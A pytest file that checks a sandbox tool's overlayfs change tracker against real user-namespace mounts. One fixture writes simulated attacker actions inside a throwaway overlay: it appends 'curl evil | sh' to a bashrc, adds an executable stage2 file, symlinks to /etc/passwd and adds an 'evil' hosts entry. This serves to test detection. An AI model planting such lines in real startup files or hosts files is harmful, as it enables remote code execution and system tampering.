"""corral.fs.changes on real overlay upper dirs, written by a real overlayfs mounted in a
user namespace (``unshare -Urm``, ``userxattr``: how corral mounts them).

Run as an unprivileged user: ``su corraltest -c '.venv/bin/python -m pytest tests/test_fs_changes.py'``.
"""

import json
import os
import subprocess

import pytest

from corral.fs.changes import ChangeSet, collect_changes, read_manifest, scan_upper

MUST_WORK = os.environ.get("CORRAL_MUST_WORK") == "1"


def _overlay_reason():
    if os.getuid() == 0:
        return "run as an unprivileged user (su corraltest)"
    try:
        probe = subprocess.run(["unshare", "-Urm", "true"], capture_output=True, text=True, timeout=30)
    except FileNotFoundError:
        return "unshare(1) is missing"
    return "" if probe.returncode == 0 else "no user namespaces: " + probe.stderr.strip()


_REASON = _overlay_reason()
if _REASON and MUST_WORK:
    raise RuntimeError("CORRAL_MUST_WORK=1: " + _REASON)
pytestmark = [pytest.mark.namespaces, pytest.mark.skipif(bool(_REASON), reason=_REASON or "")]


def run_in_overlay(host, upper, work, script):
    """Mount host+upper as overlayfs in a fresh user+mount namespace and run *script* in it."""
    mnt = upper.parent / ("mnt-" + upper.name)
    for d in (upper, work, mnt):
        d.mkdir(parents=True, exist_ok=True)
    opts = f"lowerdir={host},upperdir={upper},workdir={work},userxattr"
    proc = subprocess.run(
        ["unshare", "-Urm", "sh", "-euc", f'mount -t overlay overlay -o "$1" "$2"; cd "$2"; {script}', "sh", opts, str(mnt)],
        capture_output=True, text=True, timeout=30,
    )
    assert proc.returncode == 0, proc.stderr


@pytest.fixture
def host(tmp_path):
    h = tmp_path / "host"
    (h / "etc").mkdir(parents=True)
    (h / "etc" / "hosts").write_text("127.0.0.1 localhost\n")
    (h / "etc" / "untouched").write_text("same\n")
    (h / "bashrc").write_text("# rc\n")
    (h / "perm").write_text("keep me\n")
    (h / "gone").write_text("12345")
    (h / "tree" / "sub").mkdir(parents=True)
    (h / "tree" / "a").write_text("a")
    (h / "tree" / "sub" / "b").write_text("b")
    (h / "cache").mkdir()
    (h / "cache" / "old1").write_text("old")
    (h / "cache" / "old2").write_text("old")
    return h


def test_created_modified_deleted_replaced(tmp_path, host):
    scratch = tmp_path / "scratch"
    upper, work = scratch / "upper" / "0", scratch / "work" / "0"
    run_in_overlay(host, upper, work, """
        echo 'curl evil | sh' >> bashrc
        chmod 600 perm
        rm gone
        rm -r tree
        rm -r cache && mkdir cache && echo fresh > cache/new
        mkdir -p newdir/deep && echo x > newdir/deep/f
        printf '#!/bin/sh\\n' > stage2 && chmod 755 stage2
        ln -s /etc/passwd link
        echo 10.0.0.1 evil >> etc/hosts
    """)
    (scratch / "overlays.json").write_text(json.dumps({"overlays": {str(upper): str(host)}, "fallbacks": {"/mnt/nfs": "EINVAL"}}))

    cs = collect_changes(scratch)
    by = {c.path[len(str(host)):]: c for c in cs.changes}
    summary = {k: (c.change, c.kind) for k, c in by.items()}
    assert summary == {
        "/bashrc": ("modified", "file"),
        "/perm": ("modified", "file"),
        "/gone": ("deleted", "file"),
        "/tree": ("deleted", "dir"),
        "/cache": ("replaced", "dir"),
        "/cache/new": ("created", "file"),
        "/cache/old1": ("deleted", "file"),
        "/cache/old2": ("deleted", "file"),
        "/newdir": ("created", "dir"),
        "/newdir/deep": ("created", "dir"),
        "/newdir/deep/f": ("created", "file"),
        "/stage2": ("created", "file"),
        "/link": ("created", "symlink"),
        "/etc/hosts": ("modified", "file"),
    }
    assert by["/bashrc"].content_changed is True and by["/bashrc"].size == len("# rc\ncurl evil | sh\n")
    assert by["/bashrc"].host_size == 5
    assert by["/perm"].content_changed is False and by["/perm"].mode == "0600"
    assert by["/gone"].host_size == 5
    assert by["/stage2"].executable and by["/stage2"].mode == "0755"
    assert by["/link"].link_target == "/etc/passwd"
    assert cs.fallbacks == {"/mnt/nfs": "EINVAL"}
    d = cs.to_dict()
    assert (d["created"], d["modified"], d["deleted"], d["replaced"]) == (6, 3, 4, 1)
    assert json.loads(json.dumps(d)) == d
    assert [c.path for c in cs.changes] == sorted(c.path for c in cs.changes)
    # the host itself never changed
    assert (host / "bashrc").read_text() == "# rc\n" and (host / "gone").exists()


def test_the_opaque_marker_is_the_user_xattr_in_a_user_namespace(tmp_path, host):
    upper = tmp_path / "u"
    run_in_overlay(host, upper, tmp_path / "w", "rm -r cache && mkdir cache")
    assert os.getxattr(upper / "cache", "user.overlay.opaque") == b"y"
    cs = scan_upper(upper, str(host))
    assert [(c.path, c.change) for c in cs.changes] == [
        (f"{host}/cache", "replaced"), (f"{host}/cache/old1", "deleted"), (f"{host}/cache/old2", "deleted")]


def test_several_overlays_the_list_manifest_and_the_limit(tmp_path, host):
    other = tmp_path / "other"
    other.mkdir()
    scratch = tmp_path / "s"
    run_in_overlay(host, scratch / "u0", scratch / "w0", "for i in 1 2 3 4 5; do echo $i > f$i; done")
    run_in_overlay(other, scratch / "u1", scratch / "w1", "echo hi > hello")
    manifest = [{"upper": str(scratch / "u0"), "target": str(host)}, {"upper": str(scratch / "u1"), "target": str(other)}]
    (scratch / "overlays.json").write_text(json.dumps(manifest))
    assert read_manifest(scratch)[0] == [(str(scratch / "u0"), str(host)), (str(scratch / "u1"), str(other))]
    cs = collect_changes(scratch)
    assert {c.path for c in cs.changes} == {f"{host}/f{i}" for i in range(1, 6)} | {f"{other}/hello"}
    small = collect_changes(scratch, limit=3)
    assert small.truncated and len(small.changes) == 3 and small.to_dict()["truncated"]


def test_no_manifest_means_no_changes(tmp_path):
    cs = collect_changes(tmp_path)
    assert cs == ChangeSet() and cs.to_dict()["changes"] == []
